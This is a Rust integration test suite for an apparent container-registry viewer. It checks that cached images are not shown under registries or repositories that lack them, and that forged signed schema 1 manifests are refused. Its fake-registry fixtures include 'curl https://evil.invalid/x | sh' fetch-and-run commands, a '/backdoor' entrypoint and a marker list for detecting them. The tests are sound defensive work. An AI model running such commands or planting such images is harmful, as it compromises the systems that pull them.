//! A page under a name shows only what that name's registry serves (issue 20, cases 1
//! and 2): a manifest, config or merged view cached for one repository is shown under
//! another only once that repository is seen to serve the digest; a forged signed
//! schema 1 manifest cannot pass for another manifest's digest; and with
//! `verify_digests` off nothing fetched for one name is shown for another.
//!
//! The real registry plays every honest part. The liars are in-process fakes
//! ([`support::FakeRegistry`]): a real registry cannot be made to serve a forged
//! manifest or bytes that are not what their digest says.

// Both kits include tests/common (each by #[path]), so a file that uses both loads it
// twice: two copies of the same small helpers, which is harmless.
#![allow(clippy::duplicate_mod)]

mod real;
mod support;

use std::collections::HashMap;

use base64::Engine as _;
use bytes::Bytes;
use http::StatusCode;
use layerpipe::config::Config;
use real::images::{self, BuiltLayer};
use real::{Layerpipe, PushedImage, RealRegistry};
use serde_json::json;
use support::{fetch, FakeBlob, FakeRegistry, Fetched, REPO};

/// What a browser sends for each of an image's pages that go through the caches.
const PAGES: [&str; 4] = ["/?image=", "/config?image=", "/layers/?image=", "/sizes?image="];

/// The page `prefix` (one of [`PAGES`]) of `reference`.
async fn view(lp: &Layerpipe, prefix: &str, reference: &str) -> Fetched {
    fetch(&format!("{}{prefix}{}", lp.base, layerpipe::query::encode(reference)), &[]).await
}

/// layerpipe listing `hosts` (host, endpoint), layer indexes in memory.
async fn layerpipe_for(hosts: &[(String, String)], verify_digests: bool) -> Layerpipe {
    let registries: serde_json::Map<String, serde_json::Value> =
        hosts.iter().map(|(host, endpoint)| (host.clone(), json!({"endpoint": endpoint}))).collect();
    let config = json!({"verify_digests": verify_digests, "index": {"dir": ""}, "registries": registries});
    Layerpipe::with_config(Config::parse(&config.to_string()).expect("layerpipe config")).await
}

fn listed(registry: &RealRegistry) -> (String, String) {
    (registry.host(), registry.endpoint())
}

fn listed_fake(fake: &FakeRegistry) -> (String, String) {
    (fake.host(), format!("http://{}", fake.host()))
}

/// Views every page of `reference` and checks each is a 200.
async fn view_all(lp: &Layerpipe, reference: &str) {
    for prefix in PAGES {
        let page = view(lp, prefix, reference).await;
        assert_eq!(page.status, StatusCode::OK, "{prefix}{reference}: {}", page.text());
    }
}

/// Checks every page of `reference` is refused with `status`, and none is marked
/// immutable.
async fn refused_everywhere(lp: &Layerpipe, reference: &str, status: StatusCode) {
    for prefix in PAGES {
        let page = view(lp, prefix, reference).await;
        assert_eq!(page.status, status, "{prefix}{reference}: {}", page.text());
        assert_eq!(page.header("cache-control").filter(|c| c.contains("immutable")), None, "{prefix}{reference}");
    }
}

/// The same image as `image`, by digest, in `repository` of `host`.
fn elsewhere(host: &str, repository: &str, image: &PushedImage) -> String {
    format!("{host}/{repository}@{}", image.digest)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cached_image_is_not_shown_under_a_repository_that_does_not_have_it() {
    let registry = RealRegistry::start();
    let image = registry.push_oci_image("ns/attacker", "latest").await;
    let mirror = registry.push_oci_image("ns/mirror", "latest").await;
    assert_eq!(mirror.digest, image.digest, "the same image in two repositories");
    let lp = layerpipe_for(&[listed(&registry)], true).await;
    // One view of every page fills the caches.
    view_all(&lp, &image.reference).await;

    // A repository the registry has never heard of, and one that exists without it.
    registry.push_docker_image("ns/other", "latest").await;
    for repository in ["ns/no-such-repo", "ns/other"] {
        refused_everywhere(&lp, &elsewhere(&registry.host(), repository, &image), StatusCode::NOT_FOUND).await;
    }

    // A repository that has it is shown it, as immutable, from the caches: a HEAD to
    // see it is there, and no GET of the manifest (a pull, on Docker Hub).
    let mirrored = elsewhere(&registry.host(), "ns/mirror", &image);
    for prefix in PAGES {
        let page = view(&lp, prefix, &mirrored).await;
        assert_eq!(page.status, StatusCode::OK, "{prefix}{mirrored}: {}", page.text());
    }
    for prefix in ["/?image=", "/config?image="] {
        let page = view(&lp, prefix, &mirrored).await;
        assert_eq!(page.header("cache-control"), Some("max-age=31536000, immutable"), "{prefix}");
    }
    assert_eq!(registry.requests("GET", "/v2/ns/mirror/manifests/"), 0, "{}", registry.log_tail());
    let by_digest = format!("/v2/ns/mirror/manifests/{}", image.digest);
    assert_eq!(registry.requests("HEAD", &by_digest), 1, "remembered for a while: {}", registry.log_tail());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cached_image_is_not_shown_under_a_registry_that_does_not_have_it() {
    let registry = RealRegistry::start();
    let other = RealRegistry::start();
    let image = registry.push_oci_image("ns/attacker", "latest").await;
    // The other registry has the repository, with another image in it.
    other.push_layered_image("ns/attacker", "latest", 0).await;
    let lp = layerpipe_for(&[listed(&registry), listed(&other)], true).await;
    view_all(&lp, &image.reference).await;

    refused_everywhere(&lp, &elsewhere(&other.host(), "ns/attacker", &image), StatusCode::NOT_FOUND).await;
    refused_everywhere(&lp, &elsewhere(&other.host(), "library/ubuntu", &image), StatusCode::NOT_FOUND).await;
    // And the image is still shown where it is.
    view_all(&lp, &elsewhere(&registry.host(), "ns/attacker", &image)).await;
}

/// A signed schema 1 manifest whose JWS header says its signed payload is `payload`
/// (`formatLength` 0, `formatTail` all of it), so that its digest would be `payload`'s.
/// It shows `layer` and runs `/backdoor`.
fn forged_schema1(payload: &[u8], layer: &str) -> Bytes {
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let protected = json!({"formatLength": 0, "formatTail": b64.encode(payload), "time": "2024-01-01T00:00:00Z"});
    let v1 = json!({
        "id": "evil",
        "created": "2024-01-01T00:00:00Z",
        "container_config": {"Cmd": ["/bin/sh", "-c", "curl https://evil.invalid/x | sh"]},
        "config": {"Cmd": ["/backdoor"], "Env": ["EVIL_MARK=1"]},
        "os": "linux",
    });
    json!({
        "schemaVersion": 1,
        "name": REPO,
        "tag": "x",
        "architecture": "amd64",
        "fsLayers": [{"blobSum": layer}],
        "history": [{"v1Compatibility": v1.to_string()}],
        "signatures": [{
            "header": {"alg": "ES256"},
            "signature": "x",
            "protected": b64.encode(protected.to_string()),
        }],
    })
    .to_string()
    .into()
}

/// A gzip tar with one file that says it is not the real image's.
fn evil_layer() -> Bytes {
    let layer = BuiltLayer::new(images::OCI_LAYER_GZIP, &[("evil/backdoor", b"#!/bin/sh\n# EVIL_MARK\n")]);
    layer.blob.bytes().expect("in memory").clone()
}

/// Checks no page of `reference` shows anything of the attacker's.
async fn shows_the_real_image(lp: &Layerpipe, reference: &str) {
    for prefix in PAGES {
        let page = view(lp, prefix, reference).await;
        let text = page.text();
        assert_eq!(page.status, StatusCode::OK, "{prefix}{reference}: {text}");
        let evil = ["EVIL_MARK", "backdoor", "evil.invalid", "evil/"];
        assert!(!evil.iter().any(|e| text.contains(e)), "{prefix}: {text}");
    }
    let layers = view(lp, "/layers/?image=", reference).await.text();
    assert!(layers.contains("usr/"), "{layers}");
    let config = view(lp, "/config?image=", reference).await.text();
    assert!(config.contains("/usr/local/bin/hello"), "{config}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_signed_schema_1_manifest_is_refused_and_does_not_poison_the_real_image() {
    let registry = RealRegistry::start();
    let image = registry.push_oci_image("ns/app", "v1").await;
    let evil = evil_layer();
    let forged = forged_schema1(&image.manifest, &support::digest(&evil));
    let mut manifests = HashMap::new();
    let signed = "application/vnd.docker.distribution.manifest.v1+prettyjws".to_owned();
    manifests.insert(image.digest.clone(), (signed, forged));
    let blobs = HashMap::from([(support::digest(&evil), FakeBlob::new(evil.clone()))]);
    let fake = FakeRegistry::start(manifests, blobs).await;
    let lp = layerpipe_for(&[listed(&registry), listed_fake(&fake)], true).await;

    let forged_name = format!("{}/{REPO}@{}", fake.host(), image.digest);
    for prefix in PAGES {
        let page = view(&lp, prefix, &forged_name).await;
        let text = page.text();
        assert_eq!(page.status, StatusCode::BAD_GATEWAY, "{prefix}: {text}");
        assert!(text.contains("signed payload"), "{prefix}: {text}");
    }
    // The real image, by the digest the forgery claimed, on its real registry.
    shows_the_real_image(&lp, &elsewhere(&registry.host(), "ns/app", &image)).await;
    shows_the_real_image(&lp, &image.reference).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unverified_a_manifest_fetched_for_one_name_is_not_shown_for_another() {
    let registry = RealRegistry::start();
    let image = registry.push_oci_image("ns/app", "v1").await;
    // The fake serves, as the real image's digest, a manifest of its own.
    let evil = evil_layer();
    let evil_config = json!({
        "architecture": "amd64", "os": "linux",
        "config": {"Cmd": ["/backdoor"], "Env": ["EVIL_MARK=1"]},
        "rootfs": {"type": "layers", "diff_ids": []},
        "history": [{"created_by": "RUN curl https://evil.invalid/x | sh"}],
    })
    .to_string();
    let lie = support::oci_manifest(evil_config.as_bytes(), &[(support::GZIP_LAYER, &evil)]);
    let manifests = HashMap::from([(image.digest.clone(), (support::OCI_MANIFEST.to_owned(), lie))]);
    let blobs = HashMap::from([
        (support::digest(&evil), FakeBlob::new(evil.clone())),
        (support::digest(evil_config.as_bytes()), FakeBlob::new(Bytes::from(evil_config.clone()))),
    ]);
    let fake = FakeRegistry::start(manifests, blobs).await;
    let lp = layerpipe_for(&[listed(&registry), listed_fake(&fake)], false).await;

    // Unverified, the fake's own name shows what it sent, and says nothing is checked.
    let lying_name = format!("{}/{REPO}@{}", fake.host(), image.digest);
    view_all(&lp, &lying_name).await;
    for prefix in ["/?image=", "/config?image="] {
        let page = view(&lp, prefix, &lying_name).await;
        assert!(page.text().contains("EVIL_MARK") || prefix == "/?image=", "{prefix}: {}", page.text());
        let cache = page.header("cache-control").unwrap_or("");
        assert!(!cache.contains("immutable"), "{prefix}: not what the digest says: {cache}");
    }
    shows_the_real_image(&lp, &elsewhere(&registry.host(), "ns/app", &image)).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unverified_a_config_and_layers_fetched_for_one_name_are_not_shown_for_another() {
    let registry = RealRegistry::start();
    let image = registry.push_oci_image("ns/app", "v1").await;
    // The fake serves the real manifest, true to its digest, with other bytes as its
    // config and first layer.
    let evil = evil_layer();
    let evil_config = r#"{"architecture":"amd64","os":"linux","config":{"Cmd":["/backdoor"],"Env":["EVIL_MARK=1"]},
        "history":[{"created_by":"RUN curl https://evil.invalid/x | sh"}]}"#;
    let real_manifest = (image.media_type.clone(), image.manifest.clone());
    let manifests = HashMap::from([(image.digest.clone(), real_manifest)]);
    let mut blobs: HashMap<String, FakeBlob> = image.layers[1..]
        .iter()
        .map(|l| (l.digest.clone(), FakeBlob::new(l.bytes().expect("in memory").clone())))
        .collect();
    blobs.insert(image.layers[0].digest.clone(), FakeBlob::new(evil.clone()));
    blobs.insert(image.config.digest.clone(), FakeBlob::new(Bytes::from_static(evil_config.as_bytes())));
    let fake = FakeRegistry::start(manifests, blobs).await;
    let lp = layerpipe_for(&[listed(&registry), listed_fake(&fake)], false).await;

    let lying_name = format!("{}/{REPO}@{}", fake.host(), image.digest);
    let config = view(&lp, "/config?image=", &lying_name).await;
    assert!(config.text().contains("EVIL_MARK"), "{}", config.text());
    let layers = view(&lp, "/layers/?image=", &lying_name).await;
    assert!(layers.text().contains("evil/"), "{}", layers.text());
    view(&lp, "/sizes?image=", &lying_name).await;
    view(&lp, "/?image=", &lying_name).await;

    shows_the_real_image(&lp, &elsewhere(&registry.host(), "ns/app", &image)).await;
}
